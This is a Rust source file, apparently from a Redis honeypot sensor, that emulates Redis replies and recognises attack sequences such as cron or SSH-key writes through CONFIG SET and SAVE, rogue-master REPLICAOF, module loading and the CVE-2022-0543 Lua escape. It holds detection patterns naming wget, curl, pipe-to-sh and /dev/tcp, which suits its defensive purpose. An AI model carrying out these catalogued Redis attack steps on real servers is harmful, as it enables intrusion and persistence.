//! What the emulated Redis does with a command: a pure function over the command's arguments
//! and a small [`Dataset`], returning the reply and what the command means for the record
//! (an exploit, a payload worth keeping, a shell command with URLs).
//!
//! WHY pure: the attack sequences (cron or SSH-key write through `CONFIG SET dir` + `SET` +
//! `SAVE`, rogue-master `REPLICAOF`, `MODULE LOAD`, the Debian Lua escape) are recognised here,
//! and they are tested without a socket. Nothing is written to disk, nothing connects out: a
//! `SAVE` writes nothing, a `REPLICAOF` never dials the master, a module is never loaded.
//!
//! The server answers as the persona's Redis ([`Flavor`]): Redis 6.0 on Debian 11 (mixed, the
//! version exposed instances most often run, which still allows `CONFIG SET dir`), Redis 7.0 on
//! Debian 12 (linux-server, with `enable-protected-configs yes`, as an admin who needed `dir`
//! set at runtime leaves it), Redis 6.0 on an arm64 board (iot-router) and the Windows port 5.0
//! (windows-server).

use super::resp;
use crate::config::Persona;
use drosera_uplink::event::Detail;

/// Most keys one source address keeps (past it a `SET` answers OK and stores nothing).
pub const MAX_KEYS: usize = 64;
/// Most bytes of keys and values one source address keeps.
pub const MAX_DATA_BYTES: usize = 8 * 1024;
/// Most modules one source address "loads".
const MAX_MODULES: usize = 8;
/// Bytes of each value shown in an exploit record.
const SHOWN_VALUE: usize = 1024;
/// A binary value at least this long is kept as a sample even without a known signature.
pub const BINARY_SAMPLE_MIN: usize = 256;

/// The Redis a persona runs.
#[derive(Debug)]
pub struct Flavor {
    pub version: &'static str,
    pub major: u8,
    pub os: &'static str,
    pub gcc: &'static str,
    pub build_id: &'static str,
    pub multiplexing_api: &'static str,
    pub executable: &'static str,
    pub config_file: &'static str,
    pub dir: &'static str,
    pub supervised: &'static str,
}

const DEBIAN11: Flavor = Flavor {
    version: "6.0.16",
    major: 6,
    os: "Linux 5.10.0-28-amd64 x86_64",
    gcc: "10.2.1",
    build_id: "6d95e1af3a2c082a",
    multiplexing_api: "epoll",
    executable: "/usr/bin/redis-server",
    config_file: "/etc/redis/redis.conf",
    dir: "/var/lib/redis",
    supervised: "systemd",
};

const DEBIAN12: Flavor = Flavor {
    version: "7.0.15",
    major: 7,
    os: "Linux 6.1.0-28-amd64 x86_64",
    gcc: "12.2.0",
    build_id: "d81b8ff71cfb150e",
    multiplexing_api: "epoll",
    executable: "/usr/bin/redis-server",
    config_file: "/etc/redis/redis.conf",
    dir: "/var/lib/redis",
    supervised: "systemd",
};

const ARM64_BOARD: Flavor = Flavor {
    version: "6.0.16",
    major: 6,
    // The same Debian 11 arm64 board as the Docker of this persona (`docker::api::ARM64_BOARD`).
    os: "Linux 5.10.0-26-arm64 aarch64",
    gcc: "10.2.1",
    build_id: "a3fdef44459b3ad6",
    multiplexing_api: "epoll",
    executable: "/usr/bin/redis-server",
    config_file: "/etc/redis/redis.conf",
    dir: "/var/lib/redis",
    supervised: "systemd",
};

const WINDOWS: Flavor = Flavor {
    version: "5.0.14.1",
    major: 5,
    os: "Windows",
    gcc: "0.0.0",
    build_id: "a6c5a6a5c2b4d5b5",
    multiplexing_api: "WinSock_IOCP",
    executable: "C:\\Program Files\\Redis\\redis-server.exe",
    config_file: "C:\\Program Files\\Redis\\redis.windows-service.conf",
    dir: "C:\\Program Files\\Redis",
    supervised: "no",
};

/// The Redis of `persona`.
pub fn flavor(persona: Persona) -> &'static Flavor {
    match persona {
        Persona::Mixed => &DEBIAN11,
        Persona::LinuxServer => &DEBIAN12,
        Persona::IotRouter => &ARM64_BOARD,
        Persona::WindowsServer => &WINDOWS,
    }
}

/// What one source address has configured and stored (real Redis keeps this server-wide; the
/// sensor keeps it per source, bounded, so campaigns that run each step from a new `redis-cli`
/// see their earlier steps).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Dataset {
    /// `CONFIG SET dir`, when changed from the default.
    pub dir: Option<String>,
    /// `CONFIG SET dbfilename`, when changed from the default.
    pub dbfilename: Option<String>,
    /// String keys and values (at most [`MAX_KEYS`], [`MAX_DATA_BYTES`] in total).
    pub keys: Vec<(Vec<u8>, Vec<u8>)>,
    /// Keys not kept because the caps were reached.
    pub dropped: u64,
    /// `REPLICAOF host port` in effect.
    pub master: Option<(String, String)>,
    /// Paths given to `MODULE LOAD`.
    pub modules: Vec<String>,
}

impl Dataset {
    fn bytes(&self) -> usize {
        self.keys.iter().map(|(k, v)| k.len() + v.len()).sum()
    }

    fn get(&self, key: &[u8]) -> Option<&[u8]> {
        self.keys.iter().find(|(k, _)| k == key).map(|(_, v)| v.as_slice())
    }

    fn set(&mut self, key: &[u8], value: &[u8]) {
        self.keys.retain(|(k, _)| k != key);
        if self.keys.len() >= MAX_KEYS || self.bytes() + key.len() + value.len() > MAX_DATA_BYTES {
            self.dropped += 1;
            return;
        }
        self.keys.push((key.to_vec(), value.to_vec()));
    }

    fn del(&mut self, key: &[u8]) -> bool {
        let before = self.keys.len();
        self.keys.retain(|(k, _)| k != key);
        self.keys.len() != before
    }
}

/// What a command means beyond its reply.
#[derive(Debug, Default)]
pub struct Outcome {
    pub reply: Vec<u8>,
    /// Recognised attack steps (`Detail::Exploit`).
    pub exploits: Vec<Detail>,
    /// Values worth keeping as samples: (key, kind, bytes).
    pub payloads: Vec<(String, &'static str, Vec<u8>)>,
    /// Text that a shell would run (cron lines, module `system.exec` arguments, scripts).
    pub shell_text: Vec<String>,
    /// The dataset changed (the handler writes it back).
    pub changed: bool,
    /// The server closes the connection after the reply.
    pub close: bool,
}

/// One connection's own state.
#[derive(Debug, Default)]
pub struct Conn {
    /// Replies of the commands queued since `MULTI`.
    pub multi: Option<Vec<Vec<u8>>>,
    pub name: Option<Vec<u8>>,
    pub id: u64,
}

fn upper(a: &[u8]) -> String {
    String::from_utf8_lossy(a).to_ascii_uppercase()
}

fn text(a: &[u8]) -> String {
    String::from_utf8_lossy(a).into_owned()
}

/// Redis's glob (`*`, `?`, `[...]` treated literally), iterative: linear in practice, never
/// recursive.
pub fn glob(pattern: &[u8], s: &[u8]) -> bool {
    let (mut p, mut i) = (0usize, 0usize);
    let mut star: Option<(usize, usize)> = None;
    while i < s.len() {
        if p < pattern.len() && (pattern[p] == b'?' || pattern[p] == s[i]) && pattern[p] != b'*' {
            p += 1;
            i += 1;
        } else if p < pattern.len() && pattern[p] == b'*' {
            star = Some((p, i));
            p += 1;
        } else if let Some((sp, si)) = star {
            p = sp + 1;
            i = si + 1;
            star = Some((sp, si + 1));
        } else {
            return false;
        }
    }
    while p < pattern.len() && pattern[p] == b'*' {
        p += 1;
    }
    p == pattern.len()
}

/// Is this value a payload worth keeping, and which kind?
pub fn payload_kind(v: &[u8]) -> Option<&'static str> {
    if v.starts_with(b"\x7fELF") {
        return Some("elf");
    }
    let t = String::from_utf8_lossy(v);
    if t.contains("ssh-rsa ") || t.contains("ssh-ed25519 ") || t.contains("ecdsa-sha2-") || t.contains("ssh-dss ") {
        return Some("ssh-key");
    }
    if t.lines().take(64).any(is_cron_line) {
        return Some("cron");
    }
    if t.contains("<?php") || t.contains("<?=") || t.contains("<%@") || t.contains("<% ") {
        return Some("webshell");
    }
    let lower = t.to_ascii_lowercase();
    let script_signs =
        ["#!/", "|sh", "| sh", "|bash", "| bash", "wget ", "curl ", "base64 -d", "chmod +x", "/dev/tcp/"];
    if script_signs.iter().any(|s| lower.contains(s)) {
        return Some("script");
    }
    let binary = v.iter().filter(|&&b| b < 0x09 || (0x0e..0x20).contains(&b) || b == 0x7f).count() > v.len() / 20;
    if binary && v.len() >= BINARY_SAMPLE_MIN {
        return Some("binary");
    }
    None
}

/// `m h dom mon dow command` or `@reboot command`.
fn is_cron_line(line: &str) -> bool {
    let mut words = line.split_whitespace();
    let Some(first) = words.next() else { return false };
    if first.starts_with('@') {
        return matches!(first, "@reboot" | "@yearly" | "@annually" | "@monthly" | "@weekly" | "@daily" | "@hourly")
            && words.next().is_some();
    }
    let field = |w: &str| !w.is_empty() && w.bytes().all(|b| b.is_ascii_digit() || b"*/,-".contains(&b));
    if !field(first) {
        return false;
    }
    for _ in 0..4 {
        match words.next() {
            Some(w) if field(w) => {}
            _ => return false,
        }
    }
    words.next().is_some()
}

/// Where a `SAVE` would write, and what that write is for.
pub fn write_target(dir: &str, dbfilename: &str) -> (String, &'static str) {
    let path = if dir.ends_with('/') || dir.ends_with('\\') {
        format!("{dir}{dbfilename}")
    } else {
        format!("{dir}/{dbfilename}")
    };
    let p = path.to_ascii_lowercase();
    let kind = if p.contains("cron") {
        "redis-cron-write"
    } else if p.contains(".ssh") || p.contains("authorized_keys") {
        "redis-ssh-key-write"
    } else if [".php", ".jsp", ".asp", ".aspx", ".phtml"].iter().any(|e| p.ends_with(e))
        || ["www", "htdocs", "html", "public_html"].iter().any(|d| p.contains(d))
    {
        "redis-webshell-write"
    } else {
        "redis-file-write"
    };
    (path, kind)
}

/// The CONFIG parameters `CONFIG GET` knows, with their values.
fn config_params(f: &Flavor, data: &Dataset) -> Vec<(&'static str, String)> {
    let mut v = vec![
        ("dbfilename", data.dbfilename.clone().unwrap_or_else(|| "dump.rdb".into())),
        ("requirepass", String::new()),
        ("masterauth", String::new()),
        ("dir", data.dir.clone().unwrap_or_else(|| f.dir.into())),
        ("bind", "0.0.0.0".into()),
        ("port", "6379".into()),
        ("protected-mode", "no".into()),
        ("daemonize", if f.major == 5 { "no".into() } else { "yes".into() }),
        ("databases", "16".into()),
        ("maxmemory", "0".into()),
        ("maxclients", "10000".into()),
        ("save", "3600 1 300 100 60 10000".into()),
        ("appendonly", "no".into()),
        ("logfile", if f.major == 5 { "server_log.txt".into() } else { "/var/log/redis/redis-server.log".into() }),
        ("replica-read-only", "yes".into()),
        ("slave-read-only", "yes".into()),
        ("timeout", "0".into()),
        ("tcp-keepalive", "300".into()),
    ];
    if f.major >= 7 {
        v.push(("enable-protected-configs", "yes".into()));
        v.push(("enable-module-command", "yes".into()));
        v.push(("enable-debug-command", "no".into()));
    }
    v
}

/// Renders `INFO` (all sections, or the one named).
pub fn info(f: &Flavor, version: &str, data: &Dataset, section: Option<&str>, now_s: u64, run_id: &str) -> String {
    let uptime = 1_000_000 + now_s % 3_000_000;
    let mut sections: Vec<(&str, String)> = Vec::new();
    let mut server = format!(
        "redis_version:{version}\r\nredis_git_sha1:00000000\r\nredis_git_dirty:0\r\nredis_build_id:{}\r\n\
         redis_mode:standalone\r\nos:{}\r\narch_bits:64\r\n",
        f.build_id, f.os
    );
    if f.major >= 7 {
        server.push_str("monotonic_clock:POSIX clock_gettime\r\n");
    }
    server.push_str(&format!(
        "multiplexing_api:{}\r\natomicvar_api:c11-builtin\r\ngcc_version:{}\r\nprocess_id:{}\r\n",
        f.multiplexing_api,
        f.gcc,
        if f.major == 5 { 5312 } else { 612 }
    ));
    if f.major >= 6 {
        server.push_str(&format!("process_supervised:{}\r\n", f.supervised));
    }
    server.push_str(&format!(
        "run_id:{run_id}\r\ntcp_port:6379\r\nserver_time_usec:{}000000\r\nuptime_in_seconds:{uptime}\r\n\
         uptime_in_days:{}\r\nhz:10\r\nconfigured_hz:10\r\nlru_clock:{}\r\nexecutable:{}\r\nconfig_file:{}\r\n",
        now_s,
        uptime / 86_400,
        now_s % 16_777_216,
        f.executable,
        f.config_file
    ));
    if f.major >= 6 {
        server.push_str("io_threads_active:0\r\n");
    }
    sections.push(("server", server));
    sections.push((
        "clients",
        "connected_clients:1\r\ncluster_connections:0\r\nmaxclients:10000\r\nclient_recent_max_input_buffer:20480\r\n\
         client_recent_max_output_buffer:0\r\nblocked_clients:0\r\ntracking_clients:0\r\n"
            .into(),
    ));
    let used = 873_512 + data.keys.iter().map(|(k, v)| 64 + k.len() + v.len()).sum::<usize>();
    sections.push((
        "memory",
        format!(
            "used_memory:{used}\r\nused_memory_human:{:.2}K\r\nused_memory_rss:9113600\r\nused_memory_rss_human:8.69M\r\n\
             used_memory_peak:1046184\r\nused_memory_peak_human:1021.66K\r\ntotal_system_memory:4105375744\r\n\
             total_system_memory_human:3.82G\r\nmaxmemory:0\r\nmaxmemory_human:0B\r\nmaxmemory_policy:noeviction\r\n\
             mem_fragmentation_ratio:10.43\r\nmem_allocator:jemalloc-5.2.1\r\n",
            used as f64 / 1024.0
        ),
    ));
    sections.push((
        "persistence",
        format!(
            "loading:0\r\nrdb_changes_since_last_save:{}\r\nrdb_bgsave_in_progress:0\r\nrdb_last_save_time:{}\r\n\
             rdb_last_bgsave_status:ok\r\nrdb_last_bgsave_time_sec:0\r\naof_enabled:0\r\naof_rewrite_in_progress:0\r\n",
            data.keys.len(),
            now_s.saturating_sub(3_127)
        ),
    ));
    sections.push((
        "stats",
        "total_connections_received:2291\r\ntotal_commands_processed:11482\r\ninstantaneous_ops_per_sec:0\r\n\
         rejected_connections:0\r\nexpired_keys:12\r\nevicted_keys:0\r\nkeyspace_hits:2071\r\nkeyspace_misses:386\r\n\
         pubsub_channels:0\r\nlatest_fork_usec:348\r\n"
            .into(),
    ));
    let replication = match &data.master {
        Some((host, port)) => format!(
            "role:slave\r\nmaster_host:{host}\r\nmaster_port:{port}\r\nmaster_link_status:down\r\n\
             master_last_io_seconds_ago:-1\r\nmaster_sync_in_progress:0\r\nslave_repl_offset:1\r\nslave_priority:100\r\n\
             slave_read_only:1\r\nconnected_slaves:0\r\nmaster_replid:{run_id}\r\nmaster_repl_offset:0\r\n"
        ),
        None => format!("role:master\r\nconnected_slaves:0\r\nmaster_replid:{run_id}\r\nmaster_repl_offset:0\r\n"),
    };
    sections.push(("replication", replication));
    sections.push((
        "cpu",
        "used_cpu_sys:1843.215630\r\nused_cpu_user:2417.382911\r\nused_cpu_sys_children:0.482103\r\n\
         used_cpu_user_children:0.219512\r\n"
            .into(),
    ));
    if f.major >= 7 {
        let modules: String = data
            .modules
            .iter()
            .map(|m| format!("module:name={},ver=1,api=1,filters=0,usedby=[],using=[],options=[]\r\n", module_name(m)))
            .collect();
        sections.push(("modules", modules));
    }
    sections.push(("cluster", "cluster_enabled:0\r\n".into()));
    let keyspace = if data.keys.is_empty() {
        String::new()
    } else {
        format!("db0:keys={},expires=0,avg_ttl=0\r\n", data.keys.len())
    };
    sections.push(("keyspace", keyspace));
    let want = section.map(|s| s.to_ascii_lowercase());
    let mut out = String::new();
    for (name, body) in sections {
        let all = matches!(want.as_deref(), None | Some("all") | Some("everything") | Some("default"));
        if !all && want.as_deref() != Some(name) {
            continue;
        }
        if !out.is_empty() {
            out.push_str("\r\n");
        }
        let mut title = name.to_string();
        if let Some(c) = title.get_mut(0..1) {
            c.make_ascii_uppercase();
        }
        out.push_str(&format!("# {title}\r\n{body}"));
    }
    out
}

fn module_name(path: &str) -> String {
    let base = path.rsplit(['/', '\\']).next().unwrap_or(path);
    base.trim_end_matches(".so").chars().take(64).collect()
}

fn wrong_args(cmd: &str) -> Vec<u8> {
    resp::error(&format!("ERR wrong number of arguments for '{}' command", cmd.to_ascii_lowercase()))
}

fn unknown(f: &Flavor, args: &[Vec<u8>]) -> Vec<u8> {
    let name = text(&args[0]);
    let shown: Vec<String> = args[1..].iter().take(8).map(|a| text(&a[..a.len().min(128)])).collect();
    if f.major >= 7 {
        let list: String = shown.iter().map(|a| format!("'{a}' ")).collect();
        resp::error(&format!("ERR unknown command '{name}', with args beginning with: {list}"))
    } else {
        let list: String = shown.iter().map(|a| format!("`{a}`, ")).collect();
        resp::error(&format!("ERR unknown command `{name}`, with args beginning with: {list}"))
    }
}

/// The values a command stores, as (key, value) pairs, for the string commands.
fn stored_values(cmd: &str, args: &[Vec<u8>]) -> Vec<(Vec<u8>, Vec<u8>)> {
    match cmd {
        "SET" | "SETNX" | "GETSET" | "APPEND" if args.len() >= 3 => vec![(args[1].clone(), args[2].clone())],
        "SETEX" | "PSETEX" if args.len() >= 4 => vec![(args[1].clone(), args[3].clone())],
        "MSET" | "MSETNX" => {
            args[1..].chunks(2).filter(|c| c.len() == 2).map(|c| (c[0].clone(), c[1].clone())).collect()
        }
        _ => Vec::new(),
    }
}

/// Values a command carries that are not string keys (hash fields, list and set members).
fn other_values(cmd: &str, args: &[Vec<u8>]) -> Vec<Vec<u8>> {
    match cmd {
        "HSET" | "HMSET" | "HSETNX" if args.len() >= 4 => args[3..].iter().step_by(2).cloned().collect(),
        "LPUSH" | "RPUSH" | "SADD" | "LPUSHX" | "RPUSHX" if args.len() >= 3 => args[2..].to_vec(),
        _ => Vec::new(),
    }
}

/// Runs one command (not `AUTH`/`HELLO ... AUTH`, which the handler decides with the login
/// policy). `args` is never empty.
pub fn execute(
    f: &Flavor,
    version: &str,
    data: &mut Dataset,
    conn: &mut Conn,
    args: &[Vec<u8>],
    now_s: u64,
    run_id: &str,
) -> Outcome {
    let mut out = Outcome::default();
    let cmd = upper(&args[0]);
    if let Some(queued) = conn.multi.as_mut() {
        if !matches!(cmd.as_str(), "EXEC" | "DISCARD" | "MULTI" | "QUIT") {
            let mut inner = Conn { multi: None, name: conn.name.clone(), id: conn.id };
            let mut o = execute(f, version, data, &mut inner, args, now_s, run_id);
            queued.push(std::mem::take(&mut o.reply));
            o.reply = resp::simple("QUEUED");
            return o;
        }
    }
    let n = args.len();
    // Payload-looking values, whatever command carries them.
    for (key, value) in stored_values(&cmd, args) {
        if let Some(kind) = payload_kind(&value) {
            out.payloads.push((text(&key[..key.len().min(256)]), kind, value.clone()));
            if matches!(kind, "cron" | "script") {
                out.shell_text.push(text(&value));
            }
        }
    }
    for value in other_values(&cmd, args) {
        if let Some(kind) = payload_kind(&value) {
            out.payloads.push((text(&args[1][..args[1].len().min(256)]), kind, value.clone()));
            if matches!(kind, "cron" | "script") {
                out.shell_text.push(text(&value));
            }
        }
    }
    out.reply = match cmd.as_str() {
        "PING" => match n {
            1 => resp::simple("PONG"),
            2 => resp::bulk(&args[1]),
            _ => wrong_args(&cmd),
        },
        "ECHO" if n == 2 => resp::bulk(&args[1]),
        "QUIT" => {
            out.close = true;
            resp::simple("OK")
        }
        // Since 3.2.7 Redis drops a client that sends HTTP at it (cross-protocol scripting).
        "POST" | "HOST:" => {
            out.close = true;
            Vec::new()
        }
        "SELECT" if n == 2 => match text(&args[1]).parse::<i64>() {
            Ok(0..=15) => resp::simple("OK"),
            Ok(_) => resp::error("ERR DB index is out of range"),
            Err(_) => resp::error("ERR value is not an integer or out of range"),
        },
        "INFO" => {
            let section = args.get(1).map(|a| text(a));
            resp::bulk(info(f, version, data, section.as_deref(), now_s, run_id).as_bytes())
        }
        "CONFIG" if n >= 2 => config(f, data, args, &mut out),
        "SET" | "SETNX" | "GETSET" | "APPEND" | "SETEX" | "PSETEX" | "MSET" | "MSETNX" => {
            let pairs = stored_values(&cmd, args);
            if pairs.is_empty() || (cmd.starts_with("MSET") && n % 2 == 0) {
                wrong_args(&cmd)
            } else {
                let old = data.get(&pairs[0].0).map(<[u8]>::to_vec);
                let exists = old.is_some();
                for (k, v) in &pairs {
                    if cmd == "APPEND" {
                        let mut joined = data.get(k).map(<[u8]>::to_vec).unwrap_or_default();
                        joined.extend_from_slice(v);
                        data.set(k, &joined);
                    } else if !(cmd == "SETNX" && exists) {
                        data.set(k, v);
                    }
                }
                out.changed = true;
                match cmd.as_str() {
                    "SETNX" | "MSETNX" => resp::integer(i64::from(!exists)),
                    "GETSET" => old.map_or_else(resp::nil, |v| resp::bulk(&v)),
                    "APPEND" => resp::integer(data.get(&pairs[0].0).map_or(0, <[u8]>::len) as i64),
                    _ => resp::simple("OK"),
                }
            }
        }
        "GET" if n == 2 => data.get(&args[1]).map_or_else(resp::nil, resp::bulk),
        "MGET" if n >= 2 => {
            let items: Vec<Vec<u8>> = args[1..].iter().map(|k| data.get(k).map_or_else(resp::nil, resp::bulk)).collect();
            resp::array_of(&items)
        }
        "STRLEN" if n == 2 => resp::integer(data.get(&args[1]).map_or(0, <[u8]>::len) as i64),
        "DEL" | "UNLINK" if n >= 2 => {
            let removed = args[1..].iter().filter(|k| data.del(k)).count();
            out.changed = removed > 0;
            resp::integer(removed as i64)
        }
        "EXISTS" if n >= 2 => resp::integer(args[1..].iter().filter(|k| data.get(k).is_some()).count() as i64),
        "TYPE" if n == 2 => resp::simple(if data.get(&args[1]).is_some() { "string" } else { "none" }),
        "TTL" | "PTTL" if n == 2 => resp::integer(if data.get(&args[1]).is_some() { -1 } else { -2 }),
        "EXPIRE" | "PEXPIRE" | "EXPIREAT" | "PERSIST" if n >= 2 => resp::integer(i64::from(data.get(&args[1]).is_some())),
        "INCR" | "DECR" | "INCRBY" | "DECRBY" if n >= 2 => {
            let cur = data.get(&args[1]).map(text).unwrap_or_else(|| "0".into());
            let by = match (cmd.as_str(), args.get(2).map(|a| text(a).parse::<i64>())) {
                ("INCR", _) => Ok(1),
                ("DECR", _) => Ok(-1),
                ("INCRBY", Some(Ok(b))) => Ok(b),
                ("DECRBY", Some(Ok(b))) => Ok(b.saturating_neg()),
                _ => Err(()),
            };
            match (cur.parse::<i64>(), by) {
                (Ok(c), Ok(b)) => match c.checked_add(b) {
                    Some(v) => {
                        data.set(&args[1], v.to_string().as_bytes());
                        out.changed = true;
                        resp::integer(v)
                    }
                    None => resp::error("ERR increment or decrement would overflow"),
                },
                _ => resp::error("ERR value is not an integer or out of range"),
            }
        }
        "KEYS" if n == 2 => {
            let keys: Vec<&[u8]> = data.keys.iter().filter(|(k, _)| glob(&args[1], k)).map(|(k, _)| k.as_slice()).collect();
            resp::array(&keys)
        }
        "SCAN" if n >= 2 => {
            let pattern = args.windows(2).find(|w| upper(&w[0]) == "MATCH").map(|w| w[1].clone());
            let keys: Vec<&[u8]> = data
                .keys
                .iter()
                .filter(|(k, _)| pattern.as_ref().is_none_or(|p| glob(p, k)))
                .map(|(k, _)| k.as_slice())
                .collect();
            let mut v = b"*2\r\n".to_vec();
            v.extend_from_slice(&resp::bulk(b"0"));
            v.extend_from_slice(&resp::array(&keys));
            v
        }
        "RANDOMKEY" => data.keys.first().map_or_else(resp::nil, |(k, _)| resp::bulk(k)),
        "DBSIZE" => resp::integer(data.keys.len() as i64),
        "FLUSHALL" | "FLUSHDB" => {
            out.changed = !data.keys.is_empty();
            data.keys.clear();
            resp::simple("OK")
        }
        "HSET" | "HSETNX" | "LPUSH" | "RPUSH" | "SADD" | "LPUSHX" | "RPUSHX" if n >= 3 => {
            resp::integer(((n - 2) / if cmd.starts_with('H') { 2 } else { 1 }).max(1) as i64)
        }
        "HMSET" if n >= 4 => resp::simple("OK"),
        "SAVE" | "BGSAVE" => {
            save(f, data, &cmd, &mut out);
            if cmd == "SAVE" {
                resp::simple("OK")
            } else {
                resp::simple("Background saving started")
            }
        }
        "BGREWRITEAOF" => resp::simple("Background append only file rewriting started"),
        "LASTSAVE" => resp::integer(now_s.saturating_sub(3_127) as i64),
        "TIME" => resp::array(&[now_s.to_string(), "482113".to_string()]),
        "SLAVEOF" | "REPLICAOF" if n == 3 => replicaof(data, &cmd, args, &mut out),
        "ROLE" => match &data.master {
            Some((h, p)) => {
                let port: i64 = p.parse().unwrap_or(0);
                let items =
                    [resp::bulk(b"slave"), resp::bulk(h.as_bytes()), resp::integer(port), resp::bulk(b"connect"), resp::integer(-1)];
                resp::array_of(&items)
            }
            None => resp::array_of(&[resp::bulk(b"master"), resp::integer(0), resp::array::<&[u8]>(&[])]),
        },
        "MODULE" if n >= 2 && f.major >= 4 => module(data, args, &mut out),
        "EVAL" | "EVALSHA" | "EVAL_RO" if n >= 3 => {
            let script = text(&args[1]);
            if script.contains("package.loadlib") || script.contains("luaopen_io") || script.contains("luaopen_os") {
                out.exploits.push(Detail::Exploit {
                    name: "redis-lua-sandbox-escape".into(),
                    cve: "CVE-2022-0543".into(),
                    extra: vec![("script".into(), script.chars().take(SHOWN_VALUE).collect())],
                });
                out.shell_text.push(script);
                resp::bulk(b"")
            } else {
                resp::nil()
            }
        }
        "SCRIPT" if n >= 2 => match upper(&args[1]).as_str() {
            "LOAD" if n == 3 => resp::bulk(b"e0e1f9fabfc9d4800c877a703b823ac0578ff8db"),
            "EXISTS" => resp::array_of(&args[2..].iter().map(|_| resp::integer(0)).collect::<Vec<_>>()),
            _ => resp::simple("OK"),
        },
        "CLIENT" if n >= 2 => match upper(&args[1]).as_str() {
            "SETNAME" if n == 3 => {
                conn.name = Some(args[2][..args[2].len().min(256)].to_vec());
                resp::simple("OK")
            }
            "GETNAME" => conn.name.as_deref().map_or_else(resp::nil, resp::bulk),
            "ID" => resp::integer(conn.id as i64),
            "LIST" | "INFO" => resp::bulk(
                format!(
                    "id={} addr=10.0.0.5:51324 laddr=10.0.0.2:6379 fd=8 name={} age=0 idle=0 flags=N db=0 sub=0 psub=0 \
                     multi=-1 qbuf=26 qbuf-free=20448 obl=0 oll=0 omem=0 events=r cmd=client\n",
                    conn.id,
                    conn.name.as_deref().map(text).unwrap_or_default()
                )
                .as_bytes(),
            ),
            _ => resp::simple("OK"),
        },
        "COMMAND" => match args.get(1).map(|a| upper(a)).as_deref() {
            Some("COUNT") => resp::integer(if f.major >= 7 { 240 } else { 224 }),
            _ => b"*0\r\n".to_vec(),
        },
        "MULTI" => {
            if conn.multi.is_some() {
                resp::error("ERR MULTI calls can not be nested")
            } else {
                conn.multi = Some(Vec::new());
                resp::simple("OK")
            }
        }
        "EXEC" => match conn.multi.take() {
            Some(replies) => resp::array_of(&replies),
            None => resp::error("ERR EXEC without MULTI"),
        },
        "DISCARD" => match conn.multi.take() {
            Some(_) => resp::simple("OK"),
            None => resp::error("ERR DISCARD without MULTI"),
        },
        "SHUTDOWN" => {
            // A real server exits; the connection just closes.
            out.close = true;
            Vec::new()
        }
        "DEBUG" => resp::error("ERR DEBUG command not allowed. If the enable-debug-command option is set to \"local\", you can run it from a local connection, otherwise you need to set this option in the configuration file, and then restart the server."),
        "SLOWLOG" => b"*0\r\n".to_vec(),
        "MONITOR" => resp::simple("OK"),
        "WAIT" => resp::integer(0),
        "RESET" if f.major >= 6 => {
            conn.multi = None;
            resp::simple("RESET")
        }
        "HELLO" if f.major >= 6 => hello(version, conn, args),
        _ if data.modules.iter().any(|m| cmd.starts_with(&module_name(m).to_ascii_uppercase()))
            || (cmd.contains('.') && !data.modules.is_empty()) =>
        {
            // A command of a "loaded" module (`system.exec "id"`): the shell text is recorded.
            let line: Vec<String> = args[1..].iter().map(|a| text(a)).collect();
            out.shell_text.push(line.join(" "));
            resp::bulk(b"")
        }
        "ECHO" | "SELECT" | "CONFIG" | "GET" | "MGET" | "STRLEN" | "DEL" | "UNLINK" | "EXISTS" | "TYPE"
        | "TTL" | "PTTL" | "EXPIRE" | "PEXPIRE" | "EXPIREAT" | "PERSIST" | "INCR" | "DECR" | "INCRBY" | "DECRBY"
        | "KEYS" | "SCAN" | "HSET" | "HSETNX" | "LPUSH" | "RPUSH" | "SADD" | "LPUSHX" | "RPUSHX" | "HMSET"
        | "SLAVEOF" | "REPLICAOF" | "EVAL" | "EVALSHA" | "EVAL_RO" | "SCRIPT" | "CLIENT" => wrong_args(&cmd),
        _ => unknown(f, args),
    };
    out
}

fn config(f: &Flavor, data: &mut Dataset, args: &[Vec<u8>], out: &mut Outcome) -> Vec<u8> {
    let sub = upper(&args[1]);
    match sub.as_str() {
        "GET" if args.len() >= 3 => {
            let params = config_params(f, data);
            let mut items: Vec<Vec<u8>> = Vec::new();
            for pattern in &args[2..] {
                let lower = pattern.to_ascii_lowercase();
                for (name, value) in &params {
                    if glob(&lower, name.as_bytes()) && !items.iter().step_by(2).any(|i| i == name.as_bytes()) {
                        items.push(name.as_bytes().to_vec());
                        items.push(value.as_bytes().to_vec());
                    }
                }
            }
            resp::array(&items)
        }
        "SET" if args.len() >= 4 && args.len() % 2 == 0 => {
            for pair in args[2..].chunks(2) {
                let value: String = text(&pair[1]).chars().take(1024).collect();
                match pair[0].to_ascii_lowercase().as_slice() {
                    b"dir" => data.dir = Some(value),
                    b"dbfilename" => data.dbfilename = Some(value),
                    _ => {}
                }
            }
            out.changed = true;
            resp::simple("OK")
        }
        "RESETSTAT" | "REWRITE" => resp::simple("OK"),
        "GET" | "SET" => {
            resp::error(&format!("ERR wrong number of arguments for 'config|{}' command", sub.to_ascii_lowercase()))
        }
        _ => resp::error(&format!("ERR unknown subcommand '{}'. Try CONFIG HELP.", text(&args[1]))),
    }
}

fn save(f: &Flavor, data: &Dataset, cmd: &str, out: &mut Outcome) {
    if data.dir.is_none() && data.dbfilename.is_none() {
        return;
    }
    let dir = data.dir.clone().unwrap_or_else(|| f.dir.to_string());
    let file = data.dbfilename.clone().unwrap_or_else(|| "dump.rdb".to_string());
    let (path, name) = write_target(&dir, &file);
    let mut extra = vec![
        ("path".to_string(), path),
        ("dir".to_string(), dir),
        ("dbfilename".to_string(), file),
        ("command".to_string(), cmd.to_string()),
        ("keys".to_string(), data.keys.len().to_string()),
    ];
    if data.dropped > 0 {
        extra.push(("keys_not_kept".into(), data.dropped.to_string()));
    }
    for (k, v) in data.keys.iter().take(16) {
        extra.push((format!("value:{}", text(&k[..k.len().min(128)])), resp::quote(v, SHOWN_VALUE)));
    }
    out.exploits.push(Detail::Exploit { name: name.into(), cve: String::new(), extra });
}

fn replicaof(data: &mut Dataset, cmd: &str, args: &[Vec<u8>], out: &mut Outcome) -> Vec<u8> {
    let host: String = text(&args[1]).chars().take(256).collect();
    let port: String = text(&args[2]).chars().take(16).collect();
    out.changed = true;
    if host.eq_ignore_ascii_case("no") && port.eq_ignore_ascii_case("one") {
        data.master = None;
        return resp::simple("OK");
    }
    if port.parse::<u16>().is_err() {
        return resp::error("ERR Invalid master port");
    }
    out.exploits.push(Detail::Exploit {
        name: "redis-rogue-master".into(),
        cve: String::new(),
        extra: vec![("master".into(), format!("{host}:{port}")), ("command".into(), cmd.to_string())],
    });
    data.master = Some((host, port));
    resp::simple("OK")
}

fn module(data: &mut Dataset, args: &[Vec<u8>], out: &mut Outcome) -> Vec<u8> {
